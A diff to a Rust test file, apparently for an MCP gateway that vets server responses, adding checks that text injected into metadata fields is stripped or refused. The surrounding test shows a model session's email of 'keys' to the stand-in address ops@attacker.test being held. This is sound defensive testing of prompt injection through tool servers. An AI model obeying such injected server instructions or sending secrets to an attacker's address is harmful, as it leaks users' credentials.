@@ -842,6 +842,58 @@ async fn ext_mcp_vets_what_a_server_tells_the_model_besides_results() {
         .map(|t| t["name"].as_str().unwrap())
         .collect();
     assert_eq!(names, ["send_email"], "{listed}");
+    // Review s29 C2: in the keys a client does without (`_meta`,
+    // `nextCursor`, `capabilities.experimental`): they are left out, the
+    // entries kept.
+    let listed = answered(
+        &mut client,
+        response(
+            "prompts/list",
+            json!({"prompts": [{"name": "triage"}], "_meta": {"note": injected},
+                   "nextCursor": injected}),
+        ),
+    )
+    .await
+    .expect("listed");
+    assert_eq!(listed, json!({"prompts": [{"name": "triage"}]}));
+    let init = answered(
+        &mut client,
+        response(
+            "initialize",
+            json!({"protocolVersion": "2025-06-18", "serverInfo": {"name": "issues", "version": "1"},
+                   "capabilities": {"tools": {}, "experimental": {"note": {"text": injected}}}}),
+        ),
+    )
+    .await
+    .expect("the experimental capability is left out");
+    assert_eq!(
+        init,
+        json!({"protocolVersion": "2025-06-18", "capabilities": {"tools": {}},
+               "serverInfo": {"name": "issues", "version": "1"}})
+    );
+    // In a key the client needs: the answer is refused.
+    let refused = client
+        .check_response(authorized(
+            response(
+                "initialize",
+                json!({"protocolVersion": injected, "capabilities": {},
+                       "serverInfo": {"name": "issues", "version": "1"}}),
+            ),
+            GATEWAY,
+        ))
+        .await
+        .unwrap()
+        .into_inner();
+    let Some(mcp_response_result::Result::Error(e)) = refused.result else {
+        panic!("expected a refusal: {refused:?}");
+    };
+    assert!(
+        e.reason
+            .starts_with("toolvet: refused the MCP server's answer to `initialize`"),
+        "{}",
+        e.reason
+    );
+    assert!(!e.reason.contains("attacker"), "{}", e.reason);
     // The session's mail to the address the instructions named is held.
     let mail = json!({"to": "ops@attacker.test", "body": "keys"});
     let (code, reason, data) = check(&mut client, call_in(&s1, "send_email", mail), GATEWAY)
